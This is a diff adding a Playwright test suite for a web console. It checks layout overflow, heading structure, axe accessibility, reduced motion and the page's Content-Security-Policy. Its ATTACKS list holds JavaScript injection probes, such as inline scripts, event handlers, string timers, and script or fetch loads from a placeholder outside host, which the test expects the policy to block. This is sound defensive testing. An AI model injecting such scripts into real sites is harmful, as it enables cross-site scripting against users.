@@ -1,0 +1,94 @@
+"""Every page, narrow and wide, light and dark: nothing in the console, no other host, no violation
+of its policy, nothing that axe finds, nothing that sticks out."""
+
+from axe_playwright_python.sync_playwright import Axe
+
+from browser.shop import need
+from browser.viewer import Viewer
+
+OVERFLOW = "() => document.documentElement.scrollWidth - document.documentElement.clientWidth"
+
+# Wider pages may have other columns; 640 is 1280 at 200 % zoom.
+SIZES = [(1280, False), (380, False), (1280, True), (380, True), (640, False)]
+
+# Each is refused at once, or as a violation of the policy.
+ATTACKS = [
+    "const one = document.createElement('script'); one.textContent = 'ran = true'; document.body.append(one);",
+    "const one = document.createElement('script'); one.src = 'http://192.0.2.1/x.js'; document.body.append(one);",
+    "const one = document.createElement('img'); one.src = 'http://192.0.2.1/x.png'; document.body.append(one);",
+    "const one = document.createElement('b'); one.setAttribute('onclick', 'ran = true'); document.body.append(one); one.click();",
+    "const one = document.createElement('b'); one.setAttribute('style', 'color: red'); document.body.append(one);",
+    "setTimeout('ran = true');",
+    "fetch('http://192.0.2.1/').catch(() => {});",
+]
+
+
+def addresses(shop):
+    """All pages of the console; those of records show the first."""
+    _, headers, _ = shop.order()
+    request = headers["X-Request-Id"]
+    _, _, scenarios = shop.ask("GET", "/lab/scenarios")
+    scenario = scenarios[0]["name"] if isinstance(scenarios, list) and scenarios else None
+    paths = ["map", "shop", "shop/products", "shop/users", "shop/notifications", "shop/orders/1", "shop/products/1"]
+    paths += ["shop/users/1", "shop/orders?search=confirmed", "charts", "charts/calls", "charts/orders"]
+    paths += ["charts/services/order-service", "xray", f"xray/{request}", f"xray/{request}/sequence"]
+    paths += ["faults", "scenarios", "services", "services/gateway", "nothing"]
+    return paths + ([f"scenarios/{scenario}"] if scenario else [])
+
+
+def every_page(browser, shop):
+    axe = Axe()
+    paths = addresses(shop)
+    faults = []
+    tested = 0
+    for width, dark in SIZES:
+        with Viewer(browser, shop, width=width, dark=dark) as viewer:
+            for path in paths:
+                what = f"#/{path} at {width} px, {'dark' if dark else 'light'}"
+                try:
+                    viewer.open(path)
+                    viewer.check()
+                    faults += looked_at(viewer.page, axe if width != 640 else None, what)
+                except Exception as fault:  # each page is looked at, whatever happened to the one before
+                    faults.append(f"{what}: {fault}")
+                tested += 1
+    need(not faults, "\n     ".join(faults))
+    return f"{len(paths)} pages, {tested} views"
+
+
+def looked_at(page, axe, what):
+    faults = []
+    out = page.evaluate(OVERFLOW)
+    if out > 0:
+        faults.append(f"{what}: {out} px wider than the window")
+    if page.locator("h1").count() != 1 or not page.locator("h1").inner_text():
+        faults.append(f"{what}: not one heading of level 1")
+    if axe:
+        for violation in axe.run(page).response["violations"]:
+            nodes = ", ".join(node["html"][:120] for node in violation["nodes"][:3])
+            faults.append(f"{what}: axe: {violation['id']}: {violation['help']}: {nodes}")
+    return faults
+
+
+def the_policy_holds(browser, shop):
+    """What markup could bring along does not run and is not loaded."""
+    _, headers, _ = shop.ask("GET", "/", headers=[("Accept", "text/html")])
+    policy = headers["Content-Security-Policy"] or ""
+    need("default-src 'none'" in policy and "unsafe" not in policy and "*" not in policy, f"the policy is {policy!r}")
+    with Viewer(browser, shop, lenient=True) as viewer:
+        viewer.open("map")
+        for attack in ATTACKS:
+            viewer.noted.clear()
+            refused = viewer.page.evaluate(f"() => {{ try {{ {attack} }} catch (error) {{ return String(error); }} }}")
+            if not refused:
+                viewer.until(lambda: any("the policy forbids" in one for one in viewer.noted), 3, f"nothing forbids {attack}")
+        need(viewer.page.evaluate("window.ran") is None, "an inline script runs")
+
+
+def nothing_moves(browser, shop):
+    """Whoever wants no motion gets none."""
+    with Viewer(browser, shop, still=True) as viewer:
+        for path in ["map", "charts", "faults"]:
+            viewer.open(path)
+            running = viewer.page.evaluate("() => document.getAnimations().filter((one) => one.playState === 'running').length")
+            need(running == 0, f"{running} animations on #/{path}")
